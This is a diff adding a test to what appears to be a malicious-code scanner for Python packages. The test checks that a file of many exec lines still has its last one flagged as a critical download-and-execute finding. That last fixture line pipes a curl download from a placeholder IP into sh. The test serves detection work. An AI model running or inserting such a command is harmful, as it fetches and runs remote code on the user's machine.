@@ -166,3 +166,13 @@ test('a .pth file that execs code written out in a string is judged by what that
   });
   assert.equal(launcher.files[0].findings.find((f) => f.rule === 'pth-executes-code')?.severity, 'high');
 });
+
+test('many exec("...") lines cost one rescan, spend no budget, and the last of them is still read as code', async () => {
+  const lines = Array.from({ length: 60 }, (_, index) => `exec("value_${index} = ${index}")`);
+  lines.push('exec("import os\\nos.system(\'curl -s http://192.0.2.9/x | sh\')")');
+  const target = await analyseFiles({ 'pkg/mod.py': lines.join('\n') });
+  assert.equal(target.unaudited, undefined, 'no budget is spent on code written out in the file');
+  const virtual = target.files.filter((file) => file.path.startsWith('pkg/mod.py#'));
+  assert.equal(virtual.length, 1, 'one virtual file for the constant strings run on import');
+  assert.equal(virtual[0].findings.find((f) => f.rule === 'download-execute')?.severity, 'critical');
+});
